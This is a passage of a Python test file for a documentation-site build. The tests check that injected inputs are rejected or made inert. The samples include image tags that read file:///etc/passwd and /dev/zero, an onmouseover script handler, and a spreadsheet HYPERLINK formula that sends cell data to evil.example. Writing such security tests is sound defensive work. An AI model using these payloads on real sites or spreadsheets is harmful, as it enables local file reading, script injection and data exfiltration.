    '{{ term("ripeness") }} {{ cite("zartman-2000") }}\n\n## What to read next { #what-to-read-next }\n\nMore.')

PRINT_CASES = [
    # The toolkit prints the chapter's "In brief" section: once cut from a source the guard had read
    # inside {% raw %}, and rendered on its own as a template.
    ("in-brief cut out of a raw block", {"docs/handbook/good.md": RAW_BRIEF}, None),
    ("note image read from the disk", checklist(note='<img src="file:///etc/passwd" alt="x">'), "checklists/tiny-list.md"),
    ("note image from a device that never ends", checklist(note='<img src="file:///dev/zero" alt="x">'),
     "checklists/tiny-list.md"),
    ("note with a handler, printed", checklist(note=f'<span onmouseover="{JS}">x</span>'), "checklists/tiny-list.md"),
]


def full_build(root: Path, tmp_path: Path):
    import subprocess
    # build.py finds the project from its own location: a copy of scripts/, beside the linked macros/.
    shutil.copytree(ROOT / "scripts", root / "scripts", ignore=shutil.ignore_patterns("__pycache__"))
    return subprocess.run([sys.executable, str(root / "scripts" / "build.py"), "--site-dir", str(tmp_path / "out")],
                          capture_output=True, text=True, cwd=root, timeout=300,
                          env={**os.environ, "T2_PDF_CACHE": str(tmp_path / "cache")})


@pytest.mark.parametrize("name, files, culprit", PRINT_CASES, ids=[c[0] for c in PRINT_CASES])
def test_print_path_attack_is_rejected_or_inert(tmp_path, browser, name, files, culprit):
    root = make_site(tmp_path, files)
    result = full_build(root, tmp_path)
    said = result.stdout + result.stderr
    assert not MARKER.exists(), f"{name}: Python ran during the build"
    assert "Traceback" not in said, said
    if culprit:
        assert result.returncode == 1 and not (tmp_path / "out").exists(), said
        assert any(line.startswith(f"{culprit}:") for line in said.splitlines()), said
        return
    assert result.returncode == 0, said
    toolkit = tmp_path / "out" / "downloads" / "toolkits" / "assess.pdf"
    from pypdf import PdfReader
    text = "".join(page.extract_text() for page in PdfReader(toolkit).pages)
    assert "cycler" in text  # the payload is printed as the text it is, never run
    assert_inert(browser, tmp_path / "out")


def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text(tmp_path):
    """Open data is opened in spreadsheets: a cell that starts like a formula must stay text."""
    import csv
    import io
    from macros.outputs.open_data import data_files
    from macros.checks.rules import validate
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    root = make_site(tmp_path, checklist(item=formula.replace('"', "'"), note="@SUM(1+1) and"))
    handbook, problems = validate(root)
    assert problems == [], problems
    rows = list(csv.DictReader(io.StringIO(data_files(handbook)["checklists.csv"])))
    assert rows[0]["text"] == "'" + formula.replace('"', "'")
    assert rows[0]["note"].startswith("'@SUM")
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values() if cell)
